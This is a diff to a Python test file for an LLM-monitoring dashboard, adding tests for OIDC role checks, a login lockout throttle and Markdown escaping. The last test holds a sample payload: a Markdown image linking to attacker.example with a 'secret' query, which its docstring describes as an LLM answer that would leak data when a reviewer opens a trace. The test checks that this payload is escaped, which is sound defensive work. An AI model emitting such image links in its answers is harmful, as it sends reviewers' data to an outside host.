@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import re
 from datetime import datetime, timedelta, timezone
 
 import numpy as np
 import pytest
 from sklearn.metrics import cohen_kappa_score
 
-from dashboards.auth import allowed, hash_password, oidc_role, parse_users, verify
+from dashboards.auth import LoginThrottle, allowed, hash_password, oidc_role, parse_users, verify
+from dashboards.markup import html_block, md
 from dashboards.scope import Scope, bucket_seconds, scope_from_params
 from dashboards.stats import cohen_kappa, fleiss_kappa, moved_most, project_2d, rate_difference, wilson
 from llmwatch.errors import ConfigError
@@ -119,3 +121,34 @@ def test_bad_console_settings_are_reported_at_start() -> None:
         Settings.from_env({"LLMWATCH_CONSOLE_OIDC_ROLES": "a@b.c:boss"})
     with pytest.raises(ConfigError, match="role 'boss'"):
         Settings.from_env({"LLMWATCH_CONSOLE_USERS": f"bob:boss:{hash_password('pw')}"})
+
+
+def test_unverified_oidc_addresses_get_no_role() -> None:
+    spec = "boss@example.com:admin,*@example.com:viewer"
+    assert oidc_role("boss@example.com", spec, verified=False) == ""
+    assert oidc_role("kim@example.com", spec, verified=False) == ""
+
+
+def test_failed_sign_ins_lock_a_name_across_sessions() -> None:
+    throttle = LoginThrottle(max_failures=3, window_s=60, lockout_s=30)
+    for t in (0.0, 1.0, 2.0):
+        assert throttle.locked_for("ada", t) == 0
+        throttle.failed("ada", t)
+    assert throttle.locked_for("ada", 3.0) == pytest.approx(29.0)
+    assert throttle.locked_for("bob", 3.0) == 0  # other names are not affected
+    assert throttle.locked_for("ada", 33.0) == 0  # the lockout ends
+    throttle.failed("ada", 100.0)
+    assert throttle.locked_for("ada", 100.5) == 0  # old failures left the window
+    throttle.succeeded("ada")
+    assert throttle.locked_for("ada", 101.0) == 0
+
+
+def test_event_text_cannot_inject_markdown() -> None:
+    """An LLM answer with a Markdown image would fetch the attacker's URL when a reviewer opens
+    the trace; escaped, it is only text."""
+    hostile = "![x](https://attacker.example/?q=secret) *bold* $x$ <img src=x>"
+    escaped = md(hostile)
+    assert re.search(r"(?<!\\)[!\[\]()<>*$]", escaped) is None  # every special character escaped
+    assert re.sub(r"\\(.)", r"\1", escaped) == hostile  # nothing lost: only escaped
+    block = html_block("a\n\nb")
+    assert block == "<div>a<br><br>b</div>" and "\n" not in block
